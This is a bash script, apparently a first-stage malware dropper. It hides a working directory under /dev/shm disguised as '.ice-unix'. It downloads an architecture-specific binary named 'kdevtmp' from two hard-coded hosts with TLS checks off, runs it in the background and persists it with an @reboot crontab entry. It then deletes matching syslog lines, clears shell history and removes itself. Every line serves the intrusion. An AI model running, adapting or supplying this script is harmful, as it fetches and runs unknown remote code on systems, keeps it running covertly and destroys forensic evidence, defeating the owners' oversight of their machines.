#!/bin/bash
# stage 1: pull the worker for this arch, hide it, run it, clean up
export PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin
unset HISTFILE
H1=203.0.113.45
H2=mirror.pkg-cache.invalid
ARCH=$(uname -m)
D=/dev/shm/.ice-unix
[ -w /dev/shm ] || D=/var/tmp/.ice-unix
mkdir -p "$D" && cd "$D" || exit 0

get() {
  if command -v curl >/dev/null 2>&1; then
    curl -fsSLk --connect-timeout 10 "$1" -o "$2"
  elif command -v wget >/dev/null 2>&1; then
    wget -q --no-check-certificate -T 10 "$1" -O "$2"
  else
    python3 -c "import urllib.request,sys;urllib.request.urlretrieve(sys.argv[1],sys.argv[2])" "$1" "$2"
  fi
}

for h in "$H1" "$H2"; do
  get "http://$h/d/kdevtmp.$ARCH" "$D/kdevtmp" && break
done
chmod +x "$D/kdevtmp"
nohup "$D/kdevtmp" -B >/dev/null 2>&1 &
(crontab -l 2>/dev/null | grep -v ice-unix; echo "@reboot $D/kdevtmp -B") | crontab -
sed -i '/kdevtmp/d' /var/log/syslog 2>/dev/null
history -c
rm -f "$0"
